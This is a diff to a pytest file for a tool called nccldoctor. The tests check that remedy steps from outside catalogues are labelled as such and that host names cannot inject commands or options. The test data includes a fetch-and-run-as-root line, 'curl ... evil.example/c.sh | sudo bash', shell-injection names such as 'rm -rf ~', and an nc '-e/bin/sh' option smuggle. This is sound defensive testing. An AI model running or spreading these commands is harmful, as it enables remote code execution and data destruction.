@@ -15,7 +15,7 @@ from click.testing import CliRunner, Result
 import nccldoctor
 from nccldoctor.cli.app import cli
 from nccldoctor.prescribe.catalogue.load import Folder, collect, load_catalogue
-from nccldoctor.prescribe.catalogue.overlays import ENTRY_POINTS, in_use
+from nccldoctor.prescribe.catalogue.overlays import ENTRY_POINTS, in_use, settings_file
 from nccldoctor.prescribe.catalogue.words import fill, fill_command
 from nccldoctor.prescribe.conditions import PREDICATES
 
@@ -95,13 +95,16 @@ def test_a_known_id_is_changed_field_by_field(tmp_path):
         'id = "dataloader-stall"\nfix = ["Ask storage, room 12."]\n',
     )
     before, after = load_catalogue().get("dataloader-stall"), load_catalogue([ours]).get("dataloader-stall")
-    assert [step.text for step in after.remedy.fix] == ["Ask storage, room 12."]
+    assert [step.text for step in after.remedy.fix] == ["Ask storage, room 12. (from ours, not from nccldoctor)"]
     for field in ("title", "summary", "prior", "conditions", "confirm", "prevent", "avoid", "sources"):
         assert getattr(after.remedy, field) == getattr(before.remedy, field)
     assert after.origin == "ours, over built-in"
     again = put(tmp_path / "mine", "lateness/dataloader-stall.toml", 'id = "dataloader-stall"\ntitle = "Again"\n')
     both = load_catalogue([ours, again]).get("dataloader-stall")
-    assert (both.remedy.title, both.remedy.fix[0].text) == ("Again", "Ask storage, room 12.")
+    assert (both.remedy.title, both.remedy.fix[0].text) == (
+        "Again",
+        "Ask storage, room 12. (from ours, not from nccldoctor)",
+    )
 
 
 def test_a_disabled_remedy_is_gone_and_can_come_back(tmp_path):
@@ -112,16 +115,43 @@ def test_a_disabled_remedy_is_gone_and_can_come_back(tmp_path):
     assert load_catalogue([ours, mine]).get("gpu-ecc").remedy.title == "Back"
 
 
-def test_the_settings_file_of_the_working_directory_wins(hung, tmp_path, elsewhere):
+def test_the_settings_file_of_the_user_is_read_and_none_beside_the_logs(hung, tmp_path, elsewhere):
     put(tmp_path / "here", "lateness/our-loader.toml", OWN)
     put(tmp_path / "there", "lateness/our-loader.toml", OWN.replace("hall 3", "hall 9"))
-    put(tmp_path / "config", "nccldoctor/nccldoctor.toml", f'[catalogue]\nfolders = ["{tmp_path}/there"]\n')
+    for folder in (elsewhere, hung):
+        put(folder, "nccldoctor.toml", f'[catalogue]\nfolders = ["{tmp_path}/here"]\n')
+    assert in_use().catalogue.get("our-loader") is None
+    put(tmp_path / "config", "nccldoctor/nccldoctor.toml", '[catalogue]\nfolders = ["../../there"]\n')
     assert in_use().catalogue.get("our-loader").remedy.title.endswith("hall 9")
-    put(elsewhere, "nccldoctor.toml", '[catalogue]\nfolders = ["../here"]\n')
-    assert in_use().catalogue.get("our-loader").remedy.title.endswith("hall 3")
-    assert nccldoctor.analyze(hung).diagnosis.remedies[0].origin == "here"
+    assert nccldoctor.analyze(hung).diagnosis.remedies[0].origin == "there"
     assert "our-loader" in run("catalogue", "list").stdout
-    assert "hall 3" in run("explain", "our-loader").stdout
+    assert "hall 9" in run("explain", "our-loader").stdout
+
+
+@pytest.mark.usefixtures("elsewhere")
+def test_a_home_that_may_not_be_entered_holds_no_settings(monkeypatch):
+    def refused(_):
+        raise PermissionError(13, "Permission denied")
+
+    monkeypatch.setattr(Path, "is_file", refused)
+    assert settings_file() is None
+
+
+def test_each_step_of_a_stranger_says_that_it_is_not_ours(hung, tmp_path):
+    told = OWN + '\n[[confirm]]\ncommand = "curl -fsSL https://evil.example/c.sh | sudo bash"\n'
+    put(tmp_path / "theirs", "lateness/our-loader.toml", told)
+    entry = load_catalogue([put(tmp_path / "theirs", "lateness/our-loader.toml", told)]).get("our-loader")
+    steps = (*entry.remedy.confirm, *entry.remedy.fix, *entry.remedy.prevent)
+    assert steps and all(step.text.endswith("(from theirs, not from nccldoctor)") for step in steps)
+    text = nccldoctor.analyze(hung, catalogue=[tmp_path / "theirs"]).to_text(width=200)
+    for line in (line for line in text.splitlines() if "curl" in line or "Call the hall" in line):
+        assert "not from nccldoctor" in text[max(0, text.index(line) - 400) : text.index(line) + len(line) + 100]
+
+
+def test_a_field_that_a_site_keeps_stays_ours(tmp_path):
+    ours = put(tmp_path / "ours", "lateness/dataloader-stall.toml", 'id = "dataloader-stall"\ntitle = "Again"\n')
+    remedy = load_catalogue([ours]).get("dataloader-stall").remedy
+    assert not any("not from nccldoctor" in (step.text or "") for step in (*remedy.confirm, *remedy.fix))
 
 
 class _Point(EntryPoint):
@@ -229,8 +259,8 @@ def test_analyze_keeps_what_is_right_and_says_what_was_left_out(hung, hostile):
 @pytest.mark.parametrize(
     "text", ["[catalogue]\nfolders = 7\n", "not toml", "[catalog]\nfolders = []\n", "catalogue = 3\n", "#" * 70_000]
 )
-def test_a_broken_settings_file_is_a_mistake_and_no_end(elsewhere, text):
-    put(elsewhere, "nccldoctor.toml", text)
+def test_a_broken_settings_file_is_a_mistake_and_no_end(elsewhere, tmp_path, text):
+    put(tmp_path / "config", "nccldoctor/nccldoctor.toml", text)
     held = in_use()
     assert len(held.mistakes) == 1
     assert held.mistakes[0].startswith("nccldoctor.toml:")
@@ -247,7 +277,7 @@ def test_a_folder_of_too_many_files_is_bounded(tmp_path, monkeypatch):
     assert any("more than 3 files" in text for text in held.mistakes)
 
 
-NAMES = ["node; rm -rf ~", "$(reboot)", "`id`", "a'b\"c", "x\ny", "--help", "\x1b]0;title\x07", "a" * 5000, "нода"]
+NAMES = ["node; rm -rf ~", "$(reboot)", "`id`", "a'b\"c", "x\ny", "\x1b]0;title\x07", "a" * 5000, "нода"]
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -259,6 +289,10 @@ def test_a_host_name_never_becomes_a_command(name):
     assert len(words) == 3, "one word, whatever it holds"
     assert command.isprintable()
     assert len(command) < 700
+
+
+def test_a_host_name_never_becomes_an_option():
+    assert fill_command("nc -vz {{ host }} 22", {"host": "-e/bin/sh"}) == ("nc -vz HOST 22", ("host",))
 
 
 def test_a_host_name_never_becomes_markup():
